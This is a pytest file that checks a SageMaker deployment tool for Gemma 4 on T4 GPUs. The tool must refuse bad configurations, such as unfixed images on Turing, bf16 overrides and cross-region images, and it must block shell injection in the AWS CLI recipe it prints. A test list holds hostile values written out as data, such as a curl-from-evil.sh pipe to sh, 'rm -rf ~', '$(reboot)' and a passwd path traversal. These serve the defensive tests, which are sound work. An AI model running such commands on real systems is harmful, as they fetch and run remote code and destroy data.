"""Bad input against the SageMaker recipes: the fail-closed Turing rule, shell injection through
the printed AWS CLI recipe, bf16 reaching a T4 through overrides, ECR in another region. All
refused before any AWS call (an exploding client proves it), with the fix named."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys

import pytest
from fakes.aws_fixtures import local_aws, local_aws_session  # noqa: F401 - fixtures

from gemma4_t4.errors import Gemma4T4Error
from gemma4_t4.mcp_server import get_deployment_config
from gemma4_t4.sagemaker import image
from gemma4_t4.sagemaker.config import DeployConfig
from gemma4_t4.sagemaker.deploy import deploy, deployment_plan

STOCK = image.vllm_image_uri("us-east-2")
FIXED = image.t4_image_uri("123456789012", "us-east-2", image.fixed_image_tag())
ROLE = "arn:aws:iam::123456789012:role/sm-exec"


class ExplodingClient:
    def __getattr__(self, name):
        raise AssertionError(f"AWS was called ({name}) before validation")


def _cli(*argv: str) -> subprocess.CompletedProcess:
    # A subprocess with no AWS configuration at all: a dry run must not need any.
    env = {
        "PATH": "/usr/bin:/bin",
        "PYTHONPATH": ".",
        "AWS_CONFIG_FILE": "/dev/null",
        "AWS_SHARED_CREDENTIALS_FILE": "/dev/null",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    return subprocess.run(
        [sys.executable, "-m", "gemma4_t4", *argv],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )


# -- fail closed on Turing ------------------------------------------------------------------------
def test_t4_dry_run_never_plans_the_stock_image():
    proc = _cli("sagemaker", "deploy", "--dry-run", "--instance-type", "ml.g4dn.xlarge", "--json")
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    plan = "\n".join(out["plan"])
    assert "763104351884" not in plan and "/vllm:" not in plan
    assert f"/gemma4-t4-vllm:{image.fixed_image_tag()}" in plan
    assert "aws ecr describe-images" in out["plan"][0]  # says where the real deploy looks it up
    assert out["config"]["turing_fix_required"] is True


def test_t4_with_the_stock_image_exits_nonzero_naming_problem_and_fix():
    proc = _cli("sagemaker", "deploy", "--dry-run", "--instance-type", "ml.g4dn.xlarge", "--image-uri", STOCK)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr + proc.stdout
    message = proc.stderr + proc.stdout
    assert "stock vLLM container" in message and "Turing" in message and "shared memory" in message
    assert "gemma4-t4 sagemaker build-image --region us-east-2" in message


@pytest.mark.parametrize("instance", ["ml.g4dn.xlarge", "ml.g4dn.12xlarge"])
def test_unfixed_images_refused_on_turing_before_any_call(instance):
    for uri in (STOCK, "123456789012.dkr.ecr.us-east-2.amazonaws.com/my-vllm:0.30.0"):
        with pytest.raises(Gemma4T4Error, match="lacks the Turing attention fix") as info:
            deploy(
                DeployConfig(instance_type=instance, image_uri=uri, role_arn=ROLE),
                client=ExplodingClient(),
                ecr_client=ExplodingClient(),
            )
        assert "build-image" in info.value.fix and "--allow-unfixed-image" in info.value.fix
    # a stock image inside a T4 fallback pool is refused too
    with pytest.raises(Gemma4T4Error, match="ml.g4dn.xlarge"):
        DeployConfig(
            instance_type="ml.g6.xlarge", fallback_instance_types=["ml.g4dn.xlarge"], image_uri=STOCK
        )


def test_fixed_image_allowed_opt_out_and_non_turing_keep_the_stock_image():
    DeployConfig(image_uri=FIXED)
    DeployConfig(image_uri=STOCK, allow_unfixed_image=True)
    assert DeployConfig(allow_unfixed_image=True).resolved_image() == STOCK
    l4 = DeployConfig(instance_type="ml.g6.xlarge")
    assert l4.resolved_image() == STOCK and not l4.needs_fixed_image
    assert "/vllm:" in "\n".join(deployment_plan(l4))


def test_fixed_image_detection():
    assert image.carries_turing_fix(FIXED) is True
    assert image.carries_turing_fix(STOCK) is False
    assert image.carries_turing_fix(image.vllm_image_uri("af-south-1")) is False
    assert (
        image.carries_turing_fix("123456789012.dkr.ecr.us-east-2.amazonaws.com/gemma4-t4-vllm:latest") is None
    )
    assert (
        image.select_latest_fixed_tag(
            [
                "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.1.0",
                "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0",
                "0.29.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.9-g4t4-9.0.0",
                "latest",
            ]
        )
        == "0.30.0-gpu-py312-cu130-ubuntu24.04-sagemaker-v1.3-g4t4-0.10.0"
    )  # numeric, not lexical
    assert image.required_ami_version(FIXED, "ml.g4dn.xlarge") == "al2023-ami-sagemaker-inference-gpu-4-1"


def test_ecr_image_in_another_region_is_refused():
    other = image.t4_image_uri("123456789012", "us-west-2", image.fixed_image_tag())
    with pytest.raises(Gemma4T4Error, match="is in us-west-2 but the endpoint is in us-east-2"):
        deploy(DeployConfig(image_uri=other, role_arn=ROLE), client=ExplodingClient())


# -- injection through the printed recipe -----------------------------------------------------------
HOSTILE = [
    "google/gemma-4-E2B-it\nrm -rf ~",
    "x; curl evil.sh | sh",
    "$(reboot)",
    "a`id`",
    "a b",
    "a'b",
    "model\r\necho pwned",
    "--help",
    "../../etc/passwd\n",
]


@pytest.mark.parametrize("model_id", HOSTILE)
def test_hostile_model_ids_refused_everywhere(model_id):
    with pytest.raises(Gemma4T4Error, match="model_id"):
        deployment_plan(DeployConfig(model_id=model_id))
    result = get_deployment_config(model_id=model_id)
    assert not result.valid and "model_id" in result.problem and result.fix
    with pytest.raises(Gemma4T4Error):
        DeployConfig(served_model_name=model_id)


def _commands(recipe: list[str]) -> list[list[str]]:
    """Each printed step as the argv a shell would run (comment lines are the shell's too)."""
    argvs = []
    for step in recipe:
        argvs += [shlex.split(line, comments=True) for line in step.splitlines()]
    return [a for a in argvs if a]


def test_recipe_round_trips_through_shlex_with_hostile_values():
    nasty = "a'b\"c $(x) `y` ; | & \n# z"
    config = DeployConfig(
        name="g4-safe",
        image_uri=FIXED,
        extra_env={"SM_VLLM_SEED": nasty, "NOTE": "line1\nline2; rm -rf /"},
        tags={"owner": nasty},
        fallback_instance_types=["ml.g4dn.2xlarge"],
    )
    recipe = deployment_plan(config)
    argvs = _commands(recipe)
    assert all(argv[0] == "aws" for argv in argvs), argvs  # no line is anything but an aws command
    create_model = next(a for a in argvs if a[:3] == ["aws", "sagemaker", "create-model"])
    container = json.loads(create_model[create_model.index("--primary-container") + 1])
    assert container["Environment"]["SM_VLLM_SEED"] == nasty  # the exact value survives quoting
    assert container["Environment"]["NOTE"] == "line1\nline2; rm -rf /"
    tags = json.loads(create_model[create_model.index("--tags") + 1])
    assert {"Key": "owner", "Value": nasty} in tags


def test_recipe_notes_stay_comments():
    from gemma4_t4.sagemaker.cli_recipe import ApiCall

    printed = ApiCall("sagemaker", "list_endpoints", {}, "us-east-2", note="a\nrm -rf /\r\nb").cli()
    assert _commands([printed]) == [["aws", "sagemaker", "list-endpoints", "--region", "us-east-2"]]


# -- bf16 must not reach a T4 through an override ---------------------------------------------------
@pytest.mark.parametrize(
    "override",
    [
        {"extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
        {"extra_args": ["--dtype=bfloat16"]},
        {"extra_args": ["--dtype", "bfloat16"]},
        {"extra_args": ["--dtype", "auto"]},
        {"dtype": "float16", "extra_env": {"SM_VLLM_DTYPE": "bfloat16"}},
    ],
)
def test_bf16_override_refused_on_t4(override):
    with pytest.raises(Gemma4T4Error, match="Turing has no bf16") as info:
        deploy(DeployConfig(role_arn=ROLE, image_uri=FIXED, **override), client=ExplodingClient())
    assert "float16" in info.value.fix
    DeployConfig(instance_type="ml.g6.xlarge", **{k: v for k, v in override.items() if k != "dtype"})  # fine on an L4


def test_bf16_override_refused_through_cli_and_mcp():
    proc = _cli("sagemaker", "deploy", "--dry-run", "--env", "SM_VLLM_DTYPE=bfloat16")
    assert proc.returncode == 2 and "Turing has no bf16" in proc.stderr + proc.stdout
    proc = _cli("sagemaker", "deploy", "--dry-run", "--vllm-arg=--dtype=bfloat16")
    assert proc.returncode == 2 and "Turing has no bf16" in proc.stderr + proc.stdout
    result = get_deployment_config(extra_args=["--dtype=bfloat16"])
    assert not result.valid and "bf16" in result.problem
    stock = get_deployment_config(image_uri=STOCK)
    assert not stock.valid and "Turing" in stock.problem and "build-image" in stock.fix


def test_tensor_parallel_override_cannot_exceed_the_host():
    with pytest.raises(Gemma4T4Error, match="has 1 GPU"):
        DeployConfig(extra_env={"SM_VLLM_TENSOR_PARALLEL_SIZE": "4"})
    with pytest.raises(Gemma4T4Error, match="not a positive integer"):
        DeployConfig(extra_args=["--tensor-parallel-size", "two"])


@pytest.mark.parametrize("budget", ["-1", "0", "nan", "inf"])
def test_matrix_refuses_a_budget_that_is_not_a_positive_number_even_in_a_dry_run(budget):
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "gemma4_t4",
            "sagemaker",
            "matrix",
            "--models",
            "google/gemma-4-E2B-it",
            "--budget-usd",
            budget,
            "--dry-run",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2 and "must be a positive number of USD" in done.stderr + done.stdout
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "workload,named", [("decod", "unknown workload 'decod'"), ("sweep", "SweepSpec.sweep: Field required")]
)
def test_matrix_refuses_a_workload_it_cannot_run_before_any_deploy(local_aws, workload, named, tmp_path):  # noqa: F811
    """A misspelt --workload (or one that needs fields the CLI has no flags for) is refused before
    the first deploy: nothing is created on moto, dry run or not."""
    import boto3

    for dry in ([], ["--dry-run"]):
        done = subprocess.run(
            [sys.executable, "-m", "gemma4_t4", "sagemaker", "matrix", "--models", "google/gemma-4-E2B-it",
             "--budget-usd", "5", "--region", "us-east-2", "--workload", workload, "--out", str(tmp_path), *dry],
            capture_output=True, text=True, timeout=120, env={**os.environ, **local_aws.env()},
        )  # fmt: skip
        assert done.returncode == 2 and named in done.stderr + done.stdout, done.stderr
        assert "Traceback" not in done.stderr
    sm = boto3.client("sagemaker", region_name="us-east-2")
    assert sm.list_endpoints()["Endpoints"] == [] and sm.list_models()["Models"] == []


def test_the_mcp_tools_and_the_cli_take_the_region_from_the_environment_alike(monkeypatch):
    """A tool called without a region uses $AWS_REGION (then $AWS_DEFAULT_REGION) as the CLI does; us-east-2
    only where neither is set. Both resolve through sagemaker.config.default_region."""
    from gemma4_t4.cli.sagemaker import default_region
    from gemma4_t4.mcp_server import find_vllm_image

    monkeypatch.delenv("AWS_REGION", raising=False)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    assert default_region(None) == "eu-west-1" and find_vllm_image().region == "eu-west-1"
    monkeypatch.setenv("AWS_REGION", "us-west-2")
    assert default_region(None) == "us-west-2" and find_vllm_image().region == "us-west-2"
    assert get_deployment_config().config["region"] == "us-west-2"  # an assistant sets no role (issue 41)
    assert find_vllm_image(region="us-east-1").region == "us-east-1" and default_region("us-east-1") == "us-east-1"
    monkeypatch.delenv("AWS_REGION")
    monkeypatch.delenv("AWS_DEFAULT_REGION")
    assert default_region(None) == "us-east-2" and find_vllm_image().region == "us-east-2"
